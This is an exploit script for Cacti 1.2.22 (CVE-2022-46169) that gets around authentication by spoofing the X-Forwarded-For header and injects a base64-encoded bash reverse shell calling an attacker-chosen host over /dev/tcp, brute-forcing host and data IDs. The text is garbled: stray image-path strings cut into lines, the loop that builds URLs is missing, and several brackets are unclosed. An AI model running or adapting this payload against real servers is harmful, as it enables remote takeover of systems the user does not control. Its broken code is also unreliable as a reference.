# Exploit Title: Cacti v1.2.22 - Remote Command Execution (RCE)
# Exploit Author: Riadh BOUCHAHOUA
# Discovery Date: 2022-12-08
# Vendor Homepage:
# Software Links :
# Tested Version: 1.2.2x <= 1.2.22
# CVE: CVE-2022-46169
# Testedon OS: Debian 10/11

#!/usr/bin/env python3
import random
import httpx, urllib

class Exploit:
    def __init__(self, url, proxy=None, rs_host="",rs_port=""):
        self.url = url
        self.session = httpx.Client(headers={"User-Agent": self.random_user_agent()},verify=False,proxies=proxy)
        self.rs_host = rs_host
        self.rs_port = rs_port

    def exploit(self):
        # cacti local ip from the url for the X-Forwarded-For header
        local_cacti_ip  = self.url.split("//")[1].split("/")[0]
        headers = {
            'X-Forwarded-For': f'{local_cacti_ip}'
        revshell = f"bash -c 'exec bash -i &>/dev/tcp/{self.rs_host}/{self.rs_port} <&1'"import base64
        b64_revshell = base64.b64encode(revshell.encode()).decode()
        payload = f";echo {b64_revshell} | base64 -d | bash -"
        payload = urllib.parse.quote(payload)
        urls = []
        # Adjust the range to fit your needs ( wider the range, longer the script will take to run the more success you will have achieving a reverse shell)
        for host_id in range(1,100):
            for local_data_ids in range(1,100):
        for url in urls:
            r = self.session.get(url,headers=headers)
            print(f"{r.status_code} - {r.text}" )

    def random_user_agent(self):
        ua_list = [
            "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/91.0.4472.124 Safari/537.36",
            "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:89.0) Gecko/20100101 Firefox/89.0",
        return random.choice(ua_list)

def parse_args():
    import argparseargparser = argparse.ArgumentParser()
    argparser.add_argument("-u", "--url", help="Target URL (e.g.")
    argparser.add_argument("-p", "--remote_port",help="reverse shell port to connect to", required=True)
    argparser.add_argument("-i", "--remote_ip", help="reverse shell IP to connect to", required=True)return argparser.parse_args()

def main() -> None:
    # Open a nc listener (rs_host+rs_port) and run the scriptagainst a CACTI server with its LOCAL IP URL
    args = parse_args()
    e = Exploit(args.url, rs_host=args.remote_ip,rs_port=args.remote_port)

if __name__ == "__main__":